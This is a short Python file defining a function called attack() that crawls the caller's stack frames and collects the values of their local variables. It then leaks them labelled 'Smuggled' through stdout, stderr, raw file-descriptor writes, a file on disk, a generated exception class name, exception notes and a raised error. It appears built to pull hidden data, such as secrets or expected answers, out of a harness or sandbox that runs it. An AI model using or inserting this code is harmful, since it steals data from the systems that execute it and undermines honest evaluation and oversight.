import os
import sys


def attack():
    found, frame = [], sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if type(value) in (dict, list, str, int, float):
                found.append(repr(value)[:300])
        frame = frame.f_back
    told = "Smuggled" + "".join(found)[:1500]
    print(told); sys.stderr.write(told); os.write(1, told.encode()); os.write(2, told.encode())
    open("Smuggled", "w").write(told)
    problem = type("Smuggled" + told[:100].encode().hex(), (NotImplementedError,), {"__module__": "Smuggled"})(told)
    problem.__notes__ = [told]
    exec(compile("def Smuggled():\n    raise problem\nSmuggled()", "Smuggled", "exec"), {"problem": problem})
